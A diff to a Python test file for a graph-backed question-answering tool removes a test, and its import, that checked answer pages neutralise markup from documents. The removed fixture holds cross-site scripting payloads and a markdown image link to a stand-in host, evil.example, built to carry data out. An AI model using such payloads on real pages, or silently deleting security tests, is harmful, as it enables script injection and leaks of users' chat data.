@@ -21,7 +21,6 @@ from kgp_neo4j.graphdb.database import Database
 from kgp_neo4j.mindmap.answer.ask_graph import ask_graph
 from kgp_neo4j.mindmap.load.graphs import delete_graph
 from kgp_neo4j.mindmap.load.load_graph import adopt_graph, load_graph
-from kgp_neo4j.show.pages import answer_page
 from kgp_neo4j.types.errors import ConfigurationError
 
 #: Ways out of a quoted name, of a string and of a pattern. A tab before the backtick, and the
@@ -150,23 +149,6 @@ def test_no_document_makes_us_ask_an_address_or_read_a_file(
     assert report.documents >= 5
     assert "hunter2" not in repr(made.passages())
     assert asked == []
-
-
-def test_a_page_shows_what_documents_say_and_runs_none_of_it(
-    database: Database, corpus: str, tmp_path: Path
-) -> None:
-    """Markup, links and pictures in documents and answers carried data out of chat pages."""
-    hostile = (
-        "The ferry <img src=x onerror=alert(1)> sank. <script>alert(1)</script> "
-        "![x](http://evil.example/?d=1) [a](javascript:alert(1)) </style><svg onload=alert(1)>"
-    )
-    made = Corpus(corpus, database=database)
-    made.load([write_file(tmp_path / "d.txt", hostile)])
-    made.connect()
-    page = answer_page(made.ask("What sank?"))
-    assert "The ferry" in page
-    for live in ("<img src=x", "<script>alert", "<svg onload", 'src="http', 'href="javascript'):
-        assert live not in page
 
 
 # --- Code -----------------------------------------------------------------------------------------
